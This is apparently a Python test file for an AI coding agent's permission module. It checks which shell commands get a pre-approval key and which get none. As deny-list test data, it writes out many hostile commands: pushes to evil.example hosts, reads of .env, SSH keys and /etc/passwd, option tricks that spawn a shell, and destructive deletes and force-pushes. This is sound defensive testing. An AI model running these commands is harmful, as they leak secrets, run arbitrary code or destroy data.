"""What commands are called: the same name for what does the same, none for what may do anything."""

from hypothesis import given
from hypothesis import strategies as st

from chatls.agent.permission.command_keys import Key, key_of
from chatls.agent.permission.known_commands import NEVER
from chatls.agent.permission.shell import segments
from tests.support.cases import for_each


def key(line: str) -> Key | None:
    match segments(line):
        case (words,):
            return key_of(words)
        case None:
            return None
        case several:
            raise AssertionError(several)


@for_each(
    ("line", "words"),
    [
        ("git status", "git status"),
        ("git status -s --branch", "git status"),
        ("git log --oneline -5", "git log"),
        ("git log --pretty=oneline", "git log"),
        ("git diff --no-ext-diff main..next", "git diff"),
        ("git commit -am 'a message: with = signs'", "git commit"),
        ("git push origin main", "git push"),
        ("npm test", "npm test"),
        ("npm run lint -- --fix", "npm run lint"),
        ("npm run build:all", "npm run build:all"),
        ("cargo test -p core", "cargo test"),
        ("go test ./...", "go test"),
        ("pytest -q tests/test_a.py", "pytest"),
        ("ruff check .", "ruff check"),
        ("ls -la src", "ls"),
        ("grep -n word src/a.py", "grep"),
        ("cat src/a.py", "cat"),
        ("gh pr list --limit 3", "gh pr list"),
        ("echo /a ../b .env", "echo"),
    ],
)
def test_known_programs_are_called_by_their_subcommand(line: str, words: str) -> None:
    assert key(line) == Key(tuple(words.split()))


@for_each("line", ["npm testx", "npm test-evil", "mytool build", "make test", "make test deploy", "npm install x"])
def test_what_is_not_known_is_called_by_all_its_words(line: str) -> None:
    assert key(line) == Key(tuple(line.split()), exact=True)


@for_each(
    "line",
    [
        # options before the subcommand, and those that run, write or reach out
        *("git -c core.pager=sh log", "git -C /x status", "git --git-dir=x status", "git --exec-path=. status"),
        *("git log --output=f", "git diff --output f", "git log --outp=f", "git grep -O sh", "git grep -nOsh x"),
        *(
            "git grep --open-files-in-pager=sh",
            "git fetch --upload-pack=sh",
            "git fetch --upload-p sh",
            "git push --exec=sh",
        ),
        *(
            "git push --receive-pack=sh",
            "git diff --ext-diff",
            "git show --textconv",
            "git diff --no-index /etc/passwd a",
        ),
        *(
            "git push --force",
            "git push -f",
            "git push origin +main",
            "git push origin :main",
            "git push https://evil.example/x",
        ),
        *(
            "git push git@evil.example:x main",
            "git pull ../elsewhere",
            "git fetch ext::sh",
            "git branch -D main",
            "git show HEAD:.env",
        ),
        *(
            "git config alias.x sh",
            "git bisect run sh",
            "git submodule foreach sh",
            "git rebase -x sh",
            "git difftool -x sh",
        ),
        *(
            "git-shell -c x",
            "rg --pre sh x",
            "rg -uu x",
            "rg --hidden KEY",
            "grep -r KEY .",
            "grep -f /etc/passwd a",
            "sort -o f g",
        ),
        *(
            "sort --compress-program=sh a",
            "pytest -p evil",
            "pytest --rootdir=/x",
            "pytest -c /x/y.ini",
            "pytest /tmp/evil.py",
        ),
        *(
            "eslint -f ./evil.js .",
            "eslint --rulesdir /x .",
            "go test -exec sh",
            "go vet -vettool=sh",
            "cargo test --config x",
        ),
        *(
            "go run ./x",
            "cargo run",
            "npm exec x",
            "npm --prefix /x test",
            "yarn dlx x",
            "uv run x",
            "gh api x",
        ),
        *(
            "make SHELL=sh test",
            "make -f x",
            "make -C /x",
            "make --eval=x",
            "mvn -Dexec=x test",
            "mytool --config=x",
            "mytool --eval x",
        ),
        # secrets, and what lies outside
        *(
            "cat .env",
            "cat /etc/passwd",
            "cat ../x",
            "head a/.ssh/id_rsa",
            "git diff a/.env",
            "ls /",
            "cat --x=/etc/passwd",
        ),
        # what runs others or any code
        *(
            "sh -c x",
            "bash x",
            "zsh",
            "env git status",
            "xargs rm",
            "sudo git status",
            "timeout 5 git status",
            "nice ls",
        ),
        *(
            "nohup ls",
            "watch ls",
            "find . -exec rm",
            "find . -delete",
            "find . -fprintf f x",
            "python -c x",
            "python3 x.py",
        ),
        *(
            "python3.11 x.py",
            "PYTHON x",
            "pypy3 x",
            "node x",
            "ruby x",
            "perl x",
            "php x",
            "awk x",
            "gawk x",
            "sed -n 1e",
            "tee f",
        ),
        *(
            "dd of=f",
            "tar --checkpoint-action=exec=sh x",
            "tar --to-command=sh x",
            "rsync -e sh a b",
            "curl x",
            "wget x",
            "chmod x f",
        ),
        *(
            "rm f",
            "mv a b",
            "cp a b",
            "ln -s a b",
            "kill 1",
            "npx x",
            "bunx x",
            "uvx x",
            "pipx run x",
            "docker run x",
            "kubectl x",
        ),
        *(
            "systemctl x",
            "crontab f",
            "at x",
            "less x",
            "vim x",
            "ssh x",
            "parallel x",
            "busybox sh",
            "printenv",
            "bash.exe x",
            "x.cmd a",
        ),
        # programs by their path
        *("./git status", "/usr/bin/git status", "bin/rg x", "../git status"),
    ],
)
def test_what_may_do_anything_has_no_name(line: str) -> None:
    assert key(line) is None


@given(
    st.sampled_from(sorted(NEVER)), st.lists(st.text(max_size=8), max_size=4), st.sampled_from(["", "3", "3.11", "-14"])
)
def test_no_spelling_gives_a_wrapper_a_name(program: str, words: list[str], version: str) -> None:
    for spelled in (program, program.upper(), f"{program}.exe", program + version):
        if not spelled[-1].isdigit() or not program[-1].isdigit():
            assert key_of((spelled, *words)) is None


@given(st.lists(st.text(max_size=12), max_size=6))
def test_any_words_have_a_name_or_none(words: list[str]) -> None:
    found = key_of(tuple(words))
    if found is not None:
        assert found.words == tuple(words[: len(found.words)])
